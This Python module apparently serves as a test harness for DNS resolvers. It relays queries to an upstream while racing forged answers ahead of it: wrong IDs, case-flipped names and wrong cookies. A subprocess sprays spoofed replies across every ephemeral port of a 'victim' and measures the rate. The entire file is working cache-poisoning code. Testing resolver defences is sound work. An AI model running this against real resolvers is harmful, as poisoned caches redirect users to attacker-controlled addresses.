"""One who answers from the upstream's own address, before it does, with all but what has to be guessed.

Forger relays to a real upstream, and sends wrong replies first. Beside it this file runs as a program of its
own, which sends wrong replies to the ports of the queries, and to any other, as fast as it can.
"""

import os
import random
import select
import socket
import struct
import subprocess
import sys
import threading
import time

ADDRESS = {1: socket.inet_aton("192.0.2.66"), 28: socket.inet_pton(socket.AF_INET6, "2001:db8::66")}
BURSTS = (5, 15, 60)  # wrong replies before the right one, in turns: the last is a storm
BATCH = 512
PATIENCE = 30


def forged(identifier, question, cookie):
    """A reply with our address."""
    address = ADDRESS[struct.unpack("!H", question[-4:-2])[0]]
    header = identifier + struct.pack("!5H", 0x8580, 1, 1, 0, 1)
    record = b"\xc0\x0c" + question[-4:] + struct.pack("!IH", 300, len(address)) + address
    return header + question + record + struct.pack("!xHHIHHH", 41, 1232, 0, 12, 10, 8) + cookie


def another(octets):
    """Different octets, as many."""
    while (drawn := os.urandom(len(octets))) == octets:
        pass
    return drawn


def in_another_case(question):
    at = random.choice([i for i, octet in enumerate(question) if chr(octet).isalpha() and octet < 128])
    return question[:at] + question[at:at + 1].swapcase() + question[at + 1:]


def wrong_replies(query, count):
    """Each is wrong in one thing only."""
    end = query.index(0, 12) + 5  # of the question; the OPT behind it has the cookie as its first option
    identifier, question, cookie = query[:2], query[12:end], query[end + 15:end + 23]
    for number in range(count):
        if number % 3 == 0:
            yield forged(another(identifier), question, cookie)
        elif number % 3 == 1:
            yield forged(identifier, in_another_case(question), cookie)
        else:
            yield forged(identifier, question, another(cookie))


def right_reply(query):
    """What one would send who has guessed all."""
    end = query.index(0, 12) + 5
    return forged(query[:2], query[12:end], query[end + 15:end + 23])


def read_framed(stream):
    """One message of a TCP stream, with its length in front."""
    with stream.makefile("rb") as file:
        length = file.read(2)
        return length + file.read(struct.unpack("!H", length)[0])


class Forger:
    """On `port` of `address`, in front of the upstream on `upstream_port`. `names`: what it forges for, with the
    final dot, and sends to any port of `victim`, too. `guesses`: its first reply is wrong in nothing. `delay`: seconds
    before each reply. `machine`: where it is, if not here."""

    def __init__(self, port, upstream_port, names=(), guesses=False, delay=0.0, address="127.0.0.1",
                 upstream="127.0.0.1", victim="127.0.0.1", machine=None):
        self.port, self.queries, self.over_tcp, self.told = port, 0, 0, 0
        self._upstream, self._guesses, self._delay = (upstream, upstream_port), guesses, delay
        self._machine = machine
        self._udp = self._socket(socket.SOCK_DGRAM)
        self._udp.bind((address, port))
        self._tcp = self._socket(socket.SOCK_STREAM)
        self._tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._tcp.bind((address, port))
        self._tcp.listen()
        self._wake, self._end = os.pipe()
        self._is_stopped = False
        self._sprayer = names and subprocess.Popen(
            [sys.executable, "-B", __file__, str(self._udp.fileno()), victim, *names], bufsize=0,
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, pass_fds=[self._udp.fileno()])
        self._thread = threading.Thread(target=self._relay)
        self._thread.start()

    def _socket(self, kind):
        made = self._machine.socket(kind) if self._machine else socket.socket(socket.AF_INET, kind)
        made.settimeout(None)
        return made

    def _relay(self):
        while True:
            ready, _, _ = select.select([self._wake, self._udp, self._tcp], [], [])
            if self._wake in ready:
                return
            if self._udp in ready:
                self._relay_datagram(*self._udp.recvfrom(4096))
            if self._tcp in ready:
                self._relay_stream(self._tcp.accept()[0])

    def _relay_datagram(self, query, client):
        if len(query) < 12 or query[2] & 0x80:
            return  # one of our own, sent to any port
        self.queries += 1
        if self._guesses:
            self._udp.sendto(right_reply(query), client)
        if self._sprayer:
            self._sprayer.stdin.write(struct.pack("!H", client[1]))
            for reply in wrong_replies(query, BURSTS[self.queries % len(BURSTS)]):
                self._udp.sendto(reply, client)
                self.told += 1
        with self._socket(socket.SOCK_DGRAM) as asked:
            asked.settimeout(PATIENCE)
            asked.connect(self._upstream)
            asked.send(query)
            reply = asked.recv(4096)
        time.sleep(self._delay)
        self._udp.sendto(reply, client)

    def _relay_stream(self, client):
        self.over_tcp += 1
        with client, self._socket(socket.SOCK_STREAM) as asked:
            for stream in (client, asked):
                stream.settimeout(PATIENCE)
            asked.connect(self._upstream)
            asked.sendall(read_framed(client))
            client.sendall(read_framed(asked))

    def stop(self):
        """Returns how many wrong replies it sent a second; 0 the second time."""
        if self._is_stopped:
            return 0
        os.write(self._end, b"x")
        self._thread.join()
        rate = 0
        if self._sprayer:
            sent, seconds = self._sprayer.communicate()[0].split()
            rate = (int(sent) + self.told) / float(seconds)
        for end in (self._wake, self._end):
            os.close(end)
        self._udp.close()
        self._tcp.close()
        self._is_stopped = True
        return rate


def spray(udp, victim, names):
    """Sends wrong replies there until standard input ends, which says the ports of queries."""
    os.set_blocking(0, False)
    with open("/proc/sys/net/ipv4/ip_local_port_range") as file:
        first, last = map(int, file.read().split())
    labels = [[label.encode() for label in name.split(".")] for name in names]  # the last is empty: the root
    questions = [b"".join(bytes([len(label)]) + label for label in name) + struct.pack("!HH", rrtype, 1)
                 for name in labels for rrtype in ADDRESS]
    sent, latest, begun = 0, first, time.monotonic()
    while True:
        try:
            said = os.read(0, 4096)
            if not said:
                break
            latest, = struct.unpack("!H", said[-2:])
        except BlockingIOError:
            pass
        tail = forged(b"", random.choice(questions), os.urandom(8))
        drawn = os.urandom(4 * BATCH)
        for at in range(0, len(drawn), 4):
            anywhere = first + int.from_bytes(drawn[at + 2:at + 4], "big") % (last - first + 1)
            udp.sendto(drawn[at:at + 2] + tail, (victim, anywhere if at % 8 else latest))
        sent += BATCH
    print(sent, time.monotonic() - begun)


if __name__ == "__main__":
    spray(socket.socket(fileno=int(sys.argv[1])), sys.argv[2], sys.argv[3:])
